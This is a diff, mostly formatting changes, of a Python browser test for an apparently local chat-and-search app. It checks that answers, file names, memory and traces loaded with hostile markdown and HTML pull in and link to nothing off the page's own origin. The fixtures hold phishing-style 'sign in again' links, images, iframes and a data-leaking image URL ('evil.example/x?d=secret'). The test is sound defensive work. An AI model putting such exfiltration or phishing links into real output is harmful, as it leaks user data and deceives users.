@@ -48,21 +48,26 @@ pytestmark = [pytest.mark.browser]
 
 FAKE = "fake/hash-8"
 EVIL = "evil.example"
-LINKS = ("[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) "
-         "<img src=http://evil.example/h.png>")
+LINKS = (
+    "[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) <img src=http://evil.example/h.png>"
+)
 STORE = "Notes " + LINKS
 FILE = LINKS + ".md"
 COPY = "copy [Sign in](http://evil.example/copy) ![c](http://evil.example/c.png).md"
 ATTACHMENT = "attached " + LINKS + ".txt"
 SESSION = "Plans " + LINKS
-DOCUMENT = ("# Lighthouse keeping\n\nThe lighthouse keeper lights the lamp at dusk.\n\n"
-            "![status](http://evil.example/doc.png) <img src=http://evil.example/doc-h.png>\n"
-            "[Click to sign in again](http://evil.example/doc-login) <iframe src=http://evil.example/f></iframe>\n")
-ANSWER = ("The keeper lights the lamp at dusk.\n\n![status](http://evil.example/x?d=secret)\n\n"
-          "<img src=http://evil.example/answer.png> <iframe src=http://evil.example/frame></iframe>\n\n"
-          "[Click to sign in again](http://evil.example/login) <http://evil.example/auto>\n\n"
-          "![ref][1]\n\n[1]: http://evil.example/ref.png\n\n"
-          "- a list item with **bold**\n- [the stores page](/stores)\n\n```\ncode <b>stays</b>\n```")
+DOCUMENT = (
+    "# Lighthouse keeping\n\nThe lighthouse keeper lights the lamp at dusk.\n\n"
+    "![status](http://evil.example/doc.png) <img src=http://evil.example/doc-h.png>\n"
+    "[Click to sign in again](http://evil.example/doc-login) <iframe src=http://evil.example/f></iframe>\n"
+)
+ANSWER = (
+    "The keeper lights the lamp at dusk.\n\n![status](http://evil.example/x?d=secret)\n\n"
+    "<img src=http://evil.example/answer.png> <iframe src=http://evil.example/frame></iframe>\n\n"
+    "[Click to sign in again](http://evil.example/login) <http://evil.example/auto>\n\n"
+    "![ref][1]\n\n[1]: http://evil.example/ref.png\n\n"
+    "- a list item with **bold**\n- [the stores page](/stores)\n\n```\ncode <b>stays</b>\n```"
+)
 QUESTION = "Who lights the lamp? ![q](http://evil.example/q.png)"
 
 # Everything in the DOM that loads or links outside the page's own origin.
@@ -113,13 +118,31 @@ def _fill(data_dir: Path) -> str:
             chat.attach(sid, b"What the keeper wrote: " + LINKS.encode(), name=ATTACHMENT)
             hit = wb.search(STORE, "lighthouse keeper lamp", k=1)[0]
             chat.store.add_message(sid, USER, [Part("text", text="Who lights the lamp? " + LINKS)])
-            chat.store.add_message(sid, ASSISTANT, [Part("text", text=ANSWER)], {
-                "config": "offline " + LINKS,
-                "citations": [{"file_name": FILE, "heading": "Keeping " + LINKS, "page": None, "score": 0.9,
-                               "text": hit.text, "chunk_index": 0, "char_start": 0, "char_end": 10,
-                               "store": STORE, "source": STORE}]})
-            chat.store.add_trace(sid, "cfg " + LINKS, "openai", "m", {"messages": [LINKS]}, None,
-                                 "refused: " + LINKS, datetime.now(UTC), 0.1)
+            chat.store.add_message(
+                sid,
+                ASSISTANT,
+                [Part("text", text=ANSWER)],
+                {
+                    "config": "offline " + LINKS,
+                    "citations": [
+                        {
+                            "file_name": FILE,
+                            "heading": "Keeping " + LINKS,
+                            "page": None,
+                            "score": 0.9,
+                            "text": hit.text,
+                            "chunk_index": 0,
+                            "char_start": 0,
+                            "char_end": 10,
+                            "store": STORE,
+                            "source": STORE,
+                        }
+                    ],
+                },
+            )
+            chat.store.add_trace(
+                sid, "cfg " + LINKS, "openai", "m", {"messages": [LINKS]}, None, "refused: " + LINKS, datetime.now(UTC), 0.1
+            )
             memory = VectorMemory(wb.backend(), wb.embedder())
             memory.remember("The keeper said " + LINKS)  # the default dataset, recalled on the page
             memory.remember("The keeper wrote " + LINKS, dataset="ds " + LINKS)
@@ -178,9 +201,16 @@ def test_hostile_names_texts_and_answers_load_and_link_nothing_outside(browser, 
         with explained(page, hostile, shots):
             sid = hostile.session_id
             query = quote("lighthouse keeper lamp")
-            pages = [("home", ""), ("stores", "stores"), ("search", f"search?store={quote(STORE)}&q={query}"),
-                     ("evaluate", "evaluate"), ("files", "files"), ("chat", f"chat?session={sid}"),
-                     ("memory", "memory"), ("settings", "settings")]
+            pages = [
+                ("home", ""),
+                ("stores", "stores"),
+                ("search", f"search?store={quote(STORE)}&q={query}"),
+                ("evaluate", "evaluate"),
+                ("files", "files"),
+                ("chat", f"chat?session={sid}"),
+                ("memory", "memory"),
+                ("settings", "settings"),
+            ]
             for name, path in pages:
                 page.goto(f"{hostile.url}/{path}")
                 check(name)
@@ -188,35 +218,49 @@ def test_hostile_names_texts_and_answers_load_and_link_nothing_outside(browser, 
                 if name == "stores":
                     readable(name, lambda main=main: expect(main.get_by_text(seen(f"🗂️ {STORE}"))).to_be_visible())
                 if name == "search":
-                    readable(name, lambda: expect(page.get_by_text(seen(f"Identical text also in: {FILE}")))
-                             .to_be_visible())
+                    readable(name, lambda: expect(page.get_by_text(seen(f"Identical text also in: {FILE}"))).to_be_visible())
                 if name == "chat":
                     answer = page.get_by_test_id("stChatMessage").filter(has_text="The keeper lights the lamp")
-                    readable(name, lambda answer=answer: expect(answer.get_by_text(
-                        "[image: status] (http://evil.example/x?d=secret)")).to_be_visible())
-                    readable(name, lambda answer=answer: expect(answer.get_by_text(
-                        "Click to sign in again (http://evil.example/login)")).to_be_visible())
-                    readable(name, lambda: expect(page.get_by_test_id("stSidebar").get_by_text(seen(ATTACHMENT)))
-                             .to_be_visible())
-                    readable(name, lambda answer=answer:
-                        expect(answer.locator('a[href="/stores"]')).to_have_count(1))  # own link
+                    readable(
+                        name,
+                        lambda answer=answer: expect(
+                            answer.get_by_text("[image: status] (http://evil.example/x?d=secret)")
+                        ).to_be_visible(),
+                    )
+                    readable(
+                        name,
+                        lambda answer=answer: expect(
+                            answer.get_by_text("Click to sign in again (http://evil.example/login)")
+                        ).to_be_visible(),
+                    )
+                    readable(
+                        name, lambda: expect(page.get_by_test_id("stSidebar").get_by_text(seen(ATTACHMENT))).to_be_visible()
+                    )
+                    readable(
+                        name, lambda answer=answer: expect(answer.locator('a[href="/stores"]')).to_have_count(1)
+                    )  # own link
                 if name == "memory":
                     box = page.get_by_role("textbox", name="Query", exact=True)
                     rerun_and_wait(page, lambda box=box: box.fill("keeper"))
                     rerun_and_wait(page, lambda: page.get_by_role("button", name="Recall", exact=True).click())
                     check("memory recalled")
                     # the recall hit (the Browse section's Memory picker below names it too)
-                    readable(name, lambda main=main:
-                        expect(main.get_by_text(seen("The keeper said " + LINKS)).first).to_be_visible())
+                    readable(
+                        name,
+                        lambda main=main: expect(main.get_by_text(seen("The keeper said " + LINKS)).first).to_be_visible(),
+                    )
                 if name == "settings":
                     rerun_and_wait(page, lambda: page.get_by_role("tab", name="Traces").click())
                     check("settings traces")
-                    readable(name, lambda main=main:
-                        expect(main.get_by_text(seen("refused: " + LINKS)).first).to_be_attached())
+                    readable(
+                        name, lambda main=main: expect(main.get_by_text(seen("refused: " + LINKS)).first).to_be_attached()
+                    )
                 if name in ("chat", "stores", "search"):
-                    focus = {"chat": page.get_by_test_id("stChatMessage").first,
-                             "stores": page.get_by_test_id("stHeading").filter(has_text="Notes").first,
-                             "search": page.get_by_text("Identical text also in").first}[name]
+                    focus = {
+                        "chat": page.get_by_test_id("stChatMessage").first,
+                        "stores": page.get_by_test_id("stHeading").filter(has_text="Notes").first,
+                        "search": page.get_by_text("Identical text also in").first,
+                    }[name]
                     for width, viewport in (("1280", DESKTOP), ("390", PHONE)):
                         page.set_viewport_size(viewport)
                         page.wait_for_timeout(400)
@@ -228,8 +272,9 @@ def test_hostile_names_texts_and_answers_load_and_link_nothing_outside(browser, 
                     page.set_viewport_size(DESKTOP)
                     # what a person reads: the names as written, no escape soup
                     text = page.locator("body").inner_text()
-                    unreadable.extend(f"{name}: {soup!r} shown" for soup in ("&#", "&lt;", "&gt;", "&amp;", "\\[")
-                                      if soup in text)
+                    unreadable.extend(
+                        f"{name}: {soup!r} shown" for soup in ("&#", "&lt;", "&gt;", "&amp;", "\\[") if soup in text
+                    )
             # the attack first: nothing loaded or linked outside; then: the names read as written
             assert requests.urls, "no request was recorded"
             foreign = sorted(set(requests.foreign(hostile.url)))
